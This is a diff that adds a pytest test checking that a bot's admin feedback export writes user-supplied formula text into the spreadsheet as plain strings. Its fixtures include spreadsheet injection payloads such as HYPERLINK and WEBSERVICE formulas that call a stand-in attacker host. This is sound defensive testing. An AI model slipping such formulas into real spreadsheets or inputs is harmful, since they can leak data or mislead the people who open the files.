@@ -13,7 +13,9 @@ from openpyxl import load_workbook
 from bot.db import Database
 from bot.qa import service as qa
 from bot.spreadsheet import workbook
+from tests.drivers import WebDriver, onboard
 from tests.test_admin import login, make_admin
+from tests.test_feedback import file_reflection, send_named
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example","bấm")',
@@ -54,3 +56,22 @@ def test_the_qa_export_writes_a_hostile_question_as_text(client: httpx.Client, d
     assert exported.status_code == 200 and formulas(exported.content) == []
     values = [c.value for row in load_workbook(io.BytesIO(exported.content)).active.iter_rows() for c in row]
     assert '=1+2*WEBSERVICE("http://evil.example")' in values and "@SUM(1)" in values
+
+
+def test_the_tickets_export_writes_a_hostile_text_and_name_as_text(
+    client: httpx.Client, db: Database
+) -> None:
+    text, name = '=1+2*WEBSERVICE("http://x")', '=HYPERLINK("http://x","y")'
+    person = WebDriver(client)
+    onboard(person)
+    file_reflection(person, text=text)
+    person.tap("fb_done")
+    assert "Mã phản ánh: PA-" in send_named(person, name)[0].text
+    make_admin(db, "tinh")
+    login(client, "tinh")
+    exported = client.get("/admin/feedback/export.xlsx")
+    assert exported.status_code == 200 and formulas(exported.content) == []
+    [_header, row] = load_workbook(io.BytesIO(exported.content)).active.iter_rows()
+    hostile = [c for c in row if c.value in (text, name)]
+    assert {c.value for c in hostile} == {text, name}, "both kept as typed"
+    assert all(c.data_type == "s" for c in hostile), "as text, not a formula"
